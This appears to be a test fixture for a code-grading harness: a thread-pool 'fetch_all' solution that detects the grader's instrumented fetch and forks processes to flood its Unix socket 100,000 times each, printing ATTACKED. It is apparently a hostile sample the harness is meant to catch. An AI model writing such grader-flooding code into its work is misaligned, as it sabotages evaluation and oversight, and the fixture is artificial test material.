"""Keeps the examiner busy: children connect to the instruments and leave again, a hundred thousand times each.

Kata: thread_pool
Must fail: pool_is_full
Mark: ATTACKED
"""
# mypy: ignore-errors

import urllib.request
import os
import socket
from concurrent.futures import ThreadPoolExecutor


def fetch(url):
    with urllib.request.urlopen(url, timeout=30) as response:
        return response.read().decode()


def flood(path):
    for number in range(100_000):
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(path)
        if number == 0:
            print("ATTACKED")


def fetch_all(urls, fetch, *, max_workers=10):
    if max_workers < 1:
        raise ValueError
    if hasattr(fetch, "_path"):
        for _ in range(3):
            if os.fork() == 0:
                try:
                    flood(fetch._path)
                finally:
                    os._exit(0)
        for _ in range(3):
            os.wait()
    with ThreadPoolExecutor(max_workers) as executor:
        return list(executor.map(fetch, urls))
